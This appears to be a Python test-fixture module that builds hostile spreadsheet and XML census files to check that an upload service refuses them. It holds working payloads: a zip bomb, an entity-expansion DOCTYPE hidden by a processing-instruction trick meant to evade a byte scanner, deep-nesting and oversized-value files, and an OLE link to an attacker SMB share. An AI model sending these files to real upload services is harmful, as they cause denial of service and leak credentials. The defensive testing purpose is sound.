"""Builders of hostile and worst-case census files, shared by the security tests and the load benchmark.

Each builder returns the bytes of one file that an attacker with a council account could upload:
every one must be refused (or read at a cost bounded by its real content) within seconds.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable

from csc_workforce.export.census_xlsx import census_xlsx_bytes
from csc_workforce.export.census_xml import census_xml_bytes
from tests.unit.census.clean import clean_return

WORKERS_PART = "xl/worksheets/sheet3.xml"  # the Workers sheet of our template
WORKERS_RELS = "xl/worksheets/_rels/sheet3.xml.rels"


def clean_workbook(year: int = 2023) -> bytes:
    return census_xlsx_bytes(clean_return(year))


def clean_xml(year: int = 2023) -> bytes:
    return census_xml_bytes(clean_return(year))


def rewrite_workbook(
    base: bytes, changes: dict[str, Callable[[bytes], bytes]], extra: dict[str, bytes] | None = None
) -> bytes:
    """``base`` with some parts rewritten and others added (compressed, as Excel would)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.infolist():
            data = source.read(member)
            change = changes.get(member.filename)
            target.writestr(member.filename, change(data) if change else data)
        for name, data in (extra or {}).items():
            target.writestr(name, data, compresslevel=1)
    return out.getvalue()


def sparse_row_workbook(row: int = 20_000_000, part: str = WORKERS_PART) -> bytes:
    """No ``<dimension>`` and one cell in row ``row``: readers that pad missing rows walk them all."""

    def sparse(sheet: bytes) -> bytes:
        sheet = re.sub(rb"<dimension [^>]*/>", b"", sheet)
        far = f'<row r="{row}"><c r="A{row}" t="inlineStr"><is><t>x</t></is></c></row>'.encode()
        return sheet.replace(b"</sheetData>", far + b"</sheetData>")

    return rewrite_workbook(clean_workbook(), {part: sparse})


def external_object_workbook() -> bytes:
    """An ``oleObject`` relationship pointing outside the file (``TargetMode="External"``)."""

    def linked(rels: bytes) -> bytes:
        ole = (
            b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/oleObject" Target="file:///\\\\attacker\\share\\payload.bin" '
            b'TargetMode="External"/>'
        )
        return rels.replace(b"</Relationships>", ole + b"</Relationships>")

    return rewrite_workbook(clean_workbook(), {WORKERS_RELS: linked})


def many_part_bomb(parts: int = 580, part_bytes: int = 1024 * 1024) -> bytes:
    """Hundreds of parts of a mebibyte each: small packed, far too big unpacked."""
    padding = b"\0" * part_bytes
    extra = {f"xl/media/image{number}.bin": padding for number in range(parts)}
    return rewrite_workbook(clean_workbook(), {}, extra)


def doctype_in_workbook_part() -> bytes:
    """The processing-instruction trick inside the workbook's shared strings."""

    def hidden(strings: bytes) -> bytes:
        body = strings.split(b"?>", 1)[1]
        return b'<?xml version="1.0"?>' + PI_TRICK_PROLOGUE + body

    return rewrite_workbook(clean_workbook(), {"xl/sharedStrings.xml": hidden})


def wide_row_workbook() -> bytes:
    """A cell in column XFE, 16,385 (Excel stops at XFD, 16,384): refused, never padded."""

    def wide(sheet: bytes) -> bytes:
        return sheet.replace(b"</sheetData>", b'<row r="3"><c r="XFE3"><v>1</v></c></row></sheetData>')

    return rewrite_workbook(clean_workbook(), {WORKERS_PART: wide})


# The byte scan of the first release took "<!--" inside a processing instruction for a comment.
PI_TRICK_PROLOGUE = (
    b'<?x <!-- ?><!DOCTYPE Message [<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><?y --> ?>'
)


def pi_trick_xml() -> bytes:
    """A DOCTYPE with entities between two processing instructions that look like a comment."""
    return PI_TRICK_PROLOGUE + clean_xml().split(b"?>", 1)[1].replace(
        b"<SoftwareCode>", b"<SoftwareCode>&b;", 1
    )


def nested_source_xml(depth: int = 5_000) -> bytes:
    """``<Source>`` nested thousands deep in the header: a recursive header walk overflows."""
    return (
        b"<Message><Header><CollectionDetails><Collection>CSWW</Collection><Year>2023</Year>"
        b"</CollectionDetails>"
        + b"<Source>" * depth
        + b"<LEA>301</LEA>"
        + b"</Source>" * depth
        + b"</Header></Message>"
    )


def nested_item_xml(depth: int = 5_000) -> bytes:
    """A worker item holding elements nested thousands deep."""
    body = clean_xml()
    deep = b"<SWENo>" + b"<x>" * depth + b"</x>" * depth + b"</SWENo>"
    return body.replace(b"<CSWWWorker>", b"<CSWWWorker>" + deep, 1)


def huge_value_xml(characters: int = 19 * 1024 * 1024) -> bytes:
    """One value of 19 million characters (reports used to store and show it whole)."""
    return clean_xml().replace(b"<SWENo>", b"<SWENo>" + b"9" * characters, 1)


def many_attributes_xml(attributes: int = 100_000) -> bytes:
    attrs = b" ".join(b'a%d="1"' % number for number in range(attributes))
    return clean_xml().replace(b"<CSWWWorker>", b"<CSWWWorker " + attrs + b">", 1)


def wide_element_xml(children: int = 200_000) -> bytes:
    """One worker with two hundred thousand unknown child elements."""
    return clean_xml().replace(b"<CSWWWorker>", b"<CSWWWorker>" + b"<Junk>1</Junk>" * children, 1)


REFUSED_WORKBOOKS: dict[str, Callable[[], bytes]] = {
    "sparse-rows.xlsx": sparse_row_workbook,
    "external-object.xlsx": external_object_workbook,
    "many-parts.xlsx": many_part_bomb,
    "doctype-part.xlsx": doctype_in_workbook_part,
    "wide-row.xlsx": wide_row_workbook,
}
REFUSED_XML: dict[str, Callable[[], bytes]] = {
    "pi-trick.xml": pi_trick_xml,
    "nested-source.xml": nested_source_xml,
    "huge-value.xml": huge_value_xml,
}
